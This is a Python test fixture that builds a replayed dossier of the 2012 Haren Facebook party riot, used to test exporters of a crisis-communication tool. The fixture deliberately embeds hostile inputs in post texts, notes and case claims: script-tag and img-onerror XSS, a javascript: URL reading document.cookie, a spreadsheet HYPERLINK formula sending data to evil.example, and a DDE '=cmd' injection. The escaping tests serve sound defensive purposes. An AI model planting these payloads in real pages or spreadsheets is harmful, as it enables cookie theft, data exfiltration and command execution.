"""A realistic dossier for the export tests: the Haren Facebook party of 21 September 2012, replayed.

Post texts are hostile on purpose (markup, script URLs, spreadsheet formulas, reportlab mini-HTML, scripts
outside Latin); an exporter that shows them must escape them.
"""

from __future__ import annotations

import hashlib
import json
from datetime import UTC, datetime, timedelta
from typing import Any

from app.pipeline.alerts import Alert, AlertKind, Example, Severity
from app.playbooks import Channel
from app.room.models import (
    ActBody,
    AdviseBody,
    AnalyseBody,
    Answer,
    AnswerEffect,
    AuditEntry,
    CaseStatus,
    ChecklistItem,
    CycleEntry,
    CycleStep,
    Dossier,
    DossierPost,
    Effect,
    EvaluateBody,
    Evidence,
    Finding,
    Goal,
    Incident,
    IncidentStatus,
    MapPoint,
    RumourCaseDetail,
    SpreadPoint,
    StanceMix,
)

T0 = datetime(2012, 9, 21, 16, 0, tzinfo=UTC)  # 18:00 in Haren
WALL = datetime(2025, 3, 3, 9, 0, tzinfo=UTC)  # when the replay was worked on

SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'
JS_URL = "javascript:alert(document.cookie)"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
HOSTILE_CLAIM = f"Police use tear gas on children {IMG} & <b>more</b>"


def at(minutes: float) -> datetime:
    return T0 + timedelta(minutes=minutes)


def _posts() -> list[DossierPost]:
    texts = [
        f"Iedereen naar Haren! {SCRIPT} #projectxharen",
        f"{FORMULA} party tonight",
        "+31 6 12345678 bel mij voor een lift",
        "@everyone de ME staat bij de Rijksstraatweg",
        "-- they are using tear gas on kids!! <b>bold</b> & </para> unclosed <font name=x>",
        "Полиция в Харене; الشرطة في هارن; 警察在哈伦 🔥",
        f"see {JS_URL} for the live stream",
        "Is het waar dat er traangas is gebruikt? $5$ \\ $x^2$",
        "'quoted start and a tab\there",
        "Official: no tear gas was used. Stay away from Haren.",
    ]
    posts = []
    for number, text in enumerate(texts):
        geo = number % 3 != 2
        posts.append(DossierPost(
            key=f"x:{1000 + number}",
            created_at=at(20 + number * 9),
            author=f"p_{hashlib.sha256(str(number).encode()).hexdigest()[:10]}",
            text=text,
            area="Haren" if number % 4 else "Groningen",
            lat=53.17 + 0.004 * number if geo else None,
            lon=6.60 + 0.005 * (number % 5) if geo else None,
            url=JS_URL if number == 6 else (
                f"https://x.example/status/{1000 + number}" if number % 2 else None
            ),
        ))
    return posts


def _alerts(posts: list[DossierPost]) -> tuple[list[Alert], list[Alert]]:
    def example(post: DossierPost) -> Example:
        return Example(key=post.key, created_at=post.created_at, text=post.text, area=post.area)

    spike_v1 = Alert(
        id="spike:area:Haren:2012-09-21T18:40", kind=AlertKind.SPIKE, severity=Severity.MEDIUM,
        title="Spike in Haren: 140 posts in 10 min", explanation="140 posts vs 6 expected (z = 9.1)",
        area="Haren", first_seen=at(40), updated_at=at(50), post_count=140,
        member_ids=tuple(p.key for p in posts[:3]), examples=(example(posts[0]),),
        playbook="public-order", details={"z": 9.1, "expected": 6.0, "buckets": [3, 5, 140]},
        revision=1, detected_at=at(50),
    )
    spike_v2 = spike_v1.model_copy(update={
        "severity": Severity.HIGH, "title": "Spike in Haren: 900 posts in 10 min", "post_count": 900,
        "updated_at": at(150), "revision": 2, "details": {"z": 31.5, "expected": 6.0, "buckets": [140, 900]},
    })
    mobilisation = Alert(
        id="mobilisation:Haren:2012-09-21", kind=AlertKind.MOBILISATION, severity=Severity.CRITICAL,
        title="Call to come to Haren tonight", explanation=f"12 calls, e.g. {SCRIPT}", area="Haren",
        first_seen=at(20), updated_at=at(120), post_count=12, member_ids=(posts[0].key, posts[3].key),
        examples=(example(posts[0]), example(posts[3])), playbook="public-order", details={},
        revision=1, detected_at=at(30),
    )
    rumour = Alert(
        id="rumour:tear-gas-children", kind=AlertKind.RUMOUR, severity=Severity.HIGH,
        title="Rumour: tear gas used on children", explanation="claim spreading, 40% deny",
        area="Haren", first_seen=at(55), updated_at=at(110), post_count=48,
        member_ids=(posts[4].key, posts[7].key), examples=(example(posts[4]),), playbook=None,
        details={"stance": {"support": 20, "deny": 19}}, revision=1, detected_at=at(60),
    )
    return [mobilisation, spike_v2, rumour], [spike_v1, spike_v2, mobilisation, rumour]


def _audit(seq: int, when: datetime, actor: str, action: str, subject: str, detail: dict[str, Any],
           prev: str) -> AuditEntry:
    digest = hashlib.sha256(json.dumps([seq, when.isoformat(), actor, action, subject, detail, prev],
                                       sort_keys=True).encode()).hexdigest()
    return AuditEntry(seq=seq, at=when, actor=actor, action=action, subject=subject, detail=detail,
                      prev_hash=prev, hash=digest)


def realistic_dossier() -> Dossier:
    posts = _posts()
    alerts, revisions = _alerts(posts)
    log: list[AuditEntry] = []

    def audit(when: datetime, actor: str, action: str, subject: str, detail: dict[str, Any]) -> AuditEntry:
        entry = _audit(len(log) + 1, when, actor, action, subject, detail, log[-1].hash if log else "0" * 64)
        log.append(entry)
        return entry

    audit(WALL, "anna", "incident.open", "incident:7", {"title": "Project X Haren"})
    status_1 = audit(WALL + timedelta(minutes=3), "anna", "case.status", "case:tear-gas",
                     {"from": "new", "to": "checking"})
    note = audit(WALL + timedelta(minutes=4), "bram", "case.note", "case:tear-gas",
                 {"text": f"Checked with police {SCRIPT}: no tear gas"})
    status_2 = audit(WALL + timedelta(minutes=9), "anna", "case.status", "case:tear-gas",
                     {"from": "checking", "to": "denied", "reason": "police: no tear gas used"})
    status_3 = audit(WALL + timedelta(minutes=12), "anna", "case.answer", "case:tear-gas",
                     {"from": "denied", "to": "answered"})
    manual_status = audit(WALL + timedelta(minutes=15), "bram", "case.status", "case:manual:1",
                          {"from": "new", "to": "checking"})

    answered = RumourCaseDetail(
        case_id="case:tear-gas", origin="detector", alert_id="rumour:tear-gas-children",
        claim=HOSTILE_CLAIM, status=CaseStatus.ANSWERED, owner="anna", severity=Severity.HIGH,
        area="Haren", first_seen=at(55), updated_at=at(110), post_count=48,
        stance=StanceMix(support=20, deny=19, query=7, comment=2),
        examples=[Example(key=posts[4].key, created_at=posts[4].created_at, text=posts[4].text,
                          area="Haren")],
        answer=Answer(text="There was no tear gas. The police used a water cannon on the Rijksstraatweg.",
                      channel=Channel.SOCIAL, url="https://gemeente.example/nieuws/1", published_at=at(95),
                      by="anna", recorded_at=WALL + timedelta(minutes=12)),
        version=4, member_keys=[posts[4].key, posts[7].key], spread=[
            SpreadPoint(start=at(50), count=5), SpreadPoint(start=at(60), count=30),
            SpreadPoint(start=at(90), count=10), SpreadPoint(start=at(100), count=3),
        ], areas={"Haren": 40, "Groningen": 8},
        points=[MapPoint(key=posts[4].key, lat=53.186, lon=6.62, area="Haren"),
                MapPoint(key="x:9999", lat=53.21, lon=6.56, area="Groningen")],
        notes=[note], history=[status_1, status_2, status_3],
        effect=AnswerEffect(window_minutes=60, before=35, after=9, denials_before=12, denials_after=6),
    )
    manual = RumourCaseDetail(
        case_id="case:manual:1", origin="manual", alert_id=None,
        claim="=cmd|' /C calc'!A0 the mayor has left the town", status=CaseStatus.CHECKING, owner=None,
        severity=None, area=None, first_seen=at(130), updated_at=at(130), post_count=1,
        stance=StanceMix(), examples=[], version=2, member_keys=[posts[1].key], spread=[], areas={},
        points=[], notes=[], history=[manual_status],
    )

    analyse_v1 = AnalyseBody(summary="Mobilisation for a party; crowd expected after 20:00.")
    analyse_v2 = AnalyseBody(
        summary="Mobilisation for a party; crowd of thousands expected after 20:00.",
        goals={
            Goal.INFORMATION_NEED: [Finding(
                text="People ask whether roads are closed",
                evidence=[Evidence(kind="post", ref=posts[2].key, text=posts[2].text)],
            )],
            Goal.DAMAGE_LIMITATION: [Finding(text="Stay away from Haren; no party")],
            Goal.SENSE_MAKING: [Finding(text=f"Anger about police action {SCRIPT}",
                                        evidence=[Evidence(kind="case", ref="case:tear-gas")])],
        },
        figures={"posts_last_hour": 1200, "share_questions": 0.18},
        window=(at(0), at(60)),
    )
    advise = AdviseBody(
        advice="Publish a clear 'stay away' message and deny the tear-gas rumour with the police.",
        checklist=[ChecklistItem(item="Agree text with police", done=True),
                   ChecklistItem(item="NL-Alert?", done=False, note="not proportionate")],
        playbook="public-order",
    )
    act = ActBody(channel=Channel.SOCIAL, message="Er was geen traangas. Blijf weg uit Haren.",
                  url="https://gemeente.example/nieuws/1", case_id="case:tear-gas")
    act_press = ActBody(channel=Channel.PRESS, message="Press statement by the mayor at 22:00", lang="en")
    evaluate = EvaluateBody(
        action_entry_id="e-act-1",
        effect=Effect(window_minutes=60, action_at=at(95), posts_before=900, posts_after=610,
                      rumour_posts_before=35, rumour_posts_after=9, question_share_before=0.22,
                      question_share_after=0.11, complete=True),
        comment="Rumour declined after the answer.",
    )

    def entry(entry_id: str, step: CycleStep, version: int, author: str, minutes: float, wall: int,
              body: Any) -> CycleEntry:
        return CycleEntry(entry_id=entry_id, incident_id=7, step=step, version=version, author=author,
                          written_at=WALL + timedelta(minutes=wall), effective_at=at(minutes),
                          body=body.model_dump(mode="json"))

    entries = [
        entry("e-analyse-1", CycleStep.ANALYSE, 1, "anna", 60, 5, analyse_v1),
        entry("e-analyse-1", CycleStep.ANALYSE, 2, "bram", 60, 8, analyse_v2),
        entry("e-advise-1", CycleStep.ADVISE, 1, "anna", 70, 10, advise),
        entry("e-act-1", CycleStep.ACT, 1, "anna", 95, 12, act),
        entry("e-act-2", CycleStep.ACT, 1, "carla", 240, 20, act_press),
        entry("e-eval-1", CycleStep.EVALUATE, 1, "bram", 160, 30, evaluate),
    ]
    for e in entries:
        audit(e.written_at, e.author, "entry.create" if e.version == 1 else "entry.edit", e.entry_id,
              {"version": e.version, "step": e.step.value})

    incident = Incident(
        incident_id=7, title="Project X Haren", area="Haren", playbook="public-order",
        status=IncidentStatus.OPEN, auto_link=True, alert_ids=[a.id for a in alerts],
        case_ids=[answered.case_id, manual.case_id], opened_at=WALL, opened_by="anna", closed_at=None,
    )
    volume = [SpreadPoint(start=at(10 * i), count=c)
              for i, c in enumerate([3, 4, 6, 20, 140, 300, 650, 900, 870, 610, 420, 300, 200, 150, 90, 60,
                                     40, 30, 25, 20, 15, 10, 8, 5, 4])]
    return Dossier(
        generated_at=WALL + timedelta(hours=2), generated_by="anna", incident=incident,
        window=(at(20), at(240)), alerts=alerts, alert_revisions=revisions, cases=[answered, manual],
        entries=entries, volume=volume, volume_bucket_minutes=10, posts=posts, audit=log,
        audit_chain_ok=True,
    )


def empty_dossier() -> Dossier:
    incident = Incident(
        incident_id=8, title="Quiet evening", area=None, playbook=None, status=IncidentStatus.OPEN,
        auto_link=True, alert_ids=[], case_ids=[], opened_at=WALL, opened_by="anna", closed_at=None,
    )
    return Dossier(generated_at=WALL, generated_by="anna", incident=incident, window=None, alerts=[],
                   alert_revisions=[], cases=[], entries=[], volume=[], volume_bucket_minutes=5, posts=[],
                   audit=[], audit_chain_ok=False)
